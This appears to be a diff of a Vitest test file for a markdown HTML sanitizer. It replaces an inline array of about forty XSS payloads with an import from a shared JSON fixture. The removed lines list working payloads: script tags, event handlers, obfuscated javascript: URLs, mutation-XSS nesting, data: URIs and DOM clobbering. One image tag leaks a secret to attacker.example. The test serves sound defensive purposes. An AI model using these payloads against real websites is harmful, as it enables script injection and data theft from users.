@@ -1,49 +1,10 @@
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
 import { renderMarkdown, sanitizeHtml, sanitizeToFragment, sanitizerWorks, stablePrefixLength } from "./markdown.js";
 import { AnswerView } from "./render/answer.js";
+import payloads from "../tests/fixtures/xss-payloads.json";
 
 // Every payload tries to flip this global flag or navigate to javascript:.
-const PAYLOADS = [
-  `<script>globalThis.__pwned = 1</script>`,
-  `<SCRIPT SRC=data:text/javascript,globalThis.__pwned=1></SCRIPT>`,
-  `<img src=x onerror="globalThis.__pwned=1">`,
-  `<img src="x" OnErRoR=globalThis.__pwned=1 />`,
-  `<svg onload="globalThis.__pwned=1"><circle r=1></circle></svg>`,
-  `<svg><script>globalThis.__pwned=1</script></svg>`,
-  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
-  `<iframe src="javascript:parent.__pwned=1"></iframe>`,
-  `<a href="javascript:globalThis.__pwned=1">click</a>`,
-  `<a href="jAvAsCrIpT:globalThis.__pwned=1">click</a>`,
-  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;globalThis.__pwned=1">entity</a>`,
-  `<a href="&#x6A;avascript&colon;globalThis.__pwned=1">hex entity</a>`,
-  `<a href=" \tjava\nscript:globalThis.__pwned=1">whitespace</a>`,
-  `[md link](javascript:globalThis.__pwned=1)`,
-  `[md link 2](  JaVaScRiPt:globalThis.__pwned=1 )`,
-  `![img](x" onerror="globalThis.__pwned=1)`,
-  `<div style="background:url(javascript:globalThis.__pwned=1); width: expression(globalThis.__pwned=1)">style</div>`,
-  `<style>*{background:url("javascript:globalThis.__pwned=1")}</style>`,
-  `<math><mtext><table><mglyph><style><img src=x onerror="globalThis.__pwned=1"></style></mglyph></table></mtext></math>`,
-  `<math><mi xlink:href="javascript:globalThis.__pwned=1">m</mi></math>`,
-  `<form><math><mtext></form><form><mglyph><style></math><img src onerror="globalThis.__pwned=1">`,
-  `<a href="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+">data html</a>`,
-  `<object data="data:text/html,<script>parent.__pwned=1</script>"></object>`,
-  `<embed src="javascript:globalThis.__pwned=1">`,
-  `<form action="javascript:globalThis.__pwned=1"><button>go</button></form>`,
-  `<button formaction="javascript:globalThis.__pwned=1">go</button>`,
-  `<meta http-equiv="refresh" content="0;url=javascript:globalThis.__pwned=1">`,
-  `<base href="javascript:globalThis.__pwned=1//">`,
-  `<link rel="stylesheet" href="javascript:globalThis.__pwned=1">`,
-  `<details open ontoggle="globalThis.__pwned=1">x</details>`,
-  `<body onload="globalThis.__pwned=1">`,
-  `<input autofocus onfocus="globalThis.__pwned=1">`,
-  `<video><source onerror="globalThis.__pwned=1"></video>`,
-  `<noscript><p title="</noscript><img src=x onerror=globalThis.__pwned=1>">`,
-  `<template><img src=x onerror="globalThis.__pwned=1"></template>`,
-  `<a href="vbscript:msgbox(1)">vb</a>`,
-  `<img srcset="x 1x" src="https://attacker.example/leak?secret=1" alt="tracker">`,
-  '```html\n<script>globalThis.__pwned=1</script>\n```',
-  `<p id="__proto__" name="getElementById">clobber</p>`,
-];
+const PAYLOADS = payloads; // shared with the saved-view browser test (tests/fixtures/xss-payloads.json)
 
 function render(html, md = false) {
   const div = document.createElement("div");
